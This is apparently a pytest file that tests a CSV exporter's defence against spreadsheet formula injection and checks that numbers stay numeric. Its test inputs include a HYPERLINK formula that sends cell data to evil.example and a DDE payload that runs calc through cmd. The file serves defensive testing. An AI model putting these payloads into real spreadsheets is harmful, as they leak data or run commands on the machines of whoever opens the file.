"""CSV cells are safe to open in a spreadsheet (OWASP "CSV Injection"), numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from releases.csv_export import SafeCsvWriter, csv_cell, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Meta claimed 69.8%", "", "'quoted", "a=b", "12"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [(-2.9, "-2.9"), (-3, "-3"), (1e-05, "1e-05"), ("-2.9", "-2.9"), ("-1.5e-3", "-1.5e-3")],
)
def test_a_negative_number_stays_a_number_in_a_numeric_column(value: object, expected: str) -> None:
    assert csv_cell(value, numeric=True) == expected


@pytest.mark.parametrize(
    "value", ["-1+1", "=1", "+5", "-2.9 ", "- 3", float("nan"), float("-inf"), True]
)
def test_anything_but_a_plain_number_in_a_numeric_column_is_text(value: object) -> None:
    cell = csv_cell(value, numeric=True)
    assert cell == neutralise(str(value))
    assert not cell.startswith(("=", "+", "@")) and not (
        cell.startswith("-") and not _is_float(cell)
    )


def _is_float(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_same_negative_text_is_neutralised_in_a_text_column() -> None:
    assert csv_cell("-2.9") == "'-2.9"


def test_the_writer_applies_the_rule_per_column() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out, header=["name", "gap"], numeric_columns=["gap"])
    count = writer.writerows([["=cmd()", -4.5], ["-rich", None], ["plain", "=1+1"]])
    assert count == 3
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "gap"],
        ["'=cmd()", "-4.5"],
        ["'-rich", ""],
        ["plain", "'=1+1"],
    ]


def test_the_writer_refuses_a_numeric_column_it_does_not_have() -> None:
    with pytest.raises(ValueError, match="not in the header"):
        SafeCsvWriter(io.StringIO(), header=["name"], numeric_columns=["gap"])


def test_the_writer_refuses_a_row_of_the_wrong_width() -> None:
    writer = SafeCsvWriter(io.StringIO(), header=["name", "gap"])
    with pytest.raises(ValueError, match="1 cells"):
        writer.writerow(["only one"])
